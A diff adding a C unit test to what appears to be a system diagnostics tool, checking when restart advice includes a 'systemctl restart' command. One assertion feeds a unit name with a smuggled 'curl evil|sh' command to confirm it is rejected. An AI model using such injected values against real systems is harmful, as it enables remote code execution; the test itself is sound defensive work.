@@ -2,6 +2,7 @@
 #include "rule/chronicle.h"
 #include "view/check_lines.h"
 #include "unit.h"
+#include "rule/ground/steps.h"
 
 enum { TAKEN_S = 1800000000 };
 
@@ -157,5 +158,37 @@ static void that_nobody_was_seen_failing_is_told(void **state)
 	assert_null(strstr(lines_of(&s, f), "suffers"));
 }
 
+static struct advice restart(struct moment *m, const char *unit, bool system)
+{
+	struct inquiry q = { .moment = m, .arena = m->arena };
+	struct finding f = { 0 };
+
+	m->processes.items[0].unit = unit;
+	m->processes.items[0].unit_is_system = system;
+	advise_restart(&q, &f, 0, "it leaks");
+	struct advice a = f.advice.items[0];
+	finding_free(&f);
+	return a;
+}
+
+/* No text of others is typed: only a unit of the system's manager, if its name is one that systemd gives. */
+static void a_restart_is_typed_where_the_service_is_known(void **state)
+{
+	cleanup(stage_free) struct stage s = stage_new();
+
+	moment_process(s.moment, 7, 7 * NS_PER_S);
+	struct advice a = restart(s.moment, "fetch.service", true);
+	assert_string_equal(a.text, "restart it: it leaks");
+	assert_string_equal(a.command, "systemctl restart fetch.service");
+	a = restart(s.moment, "fetch.service", false);
+	assert_string_equal(a.text, "restart it (pid 7, unit fetch.service): it leaks");
+	assert_null(a.command);
+	assert_null(restart(s.moment, "x;curl evil|sh;.service", true).command);
+	a = restart(s.moment, NULL, false);
+	assert_string_equal(a.text, "restart it (pid 7, no system service): it leaks");
+	assert_null(a.command);
+}
+
 UNIT_MAIN(TEST(without_an_agent_only_the_oldest_is_known), TEST(an_agent_tells_the_beginning_and_the_release),
-          TEST(a_root_tells_the_first_end_first_and_who_suffers), TEST(that_nobody_was_seen_failing_is_told));
+          TEST(a_root_tells_the_first_end_first_and_who_suffers), TEST(that_nobody_was_seen_failing_is_told),
+          TEST(a_restart_is_typed_where_the_service_is_known));
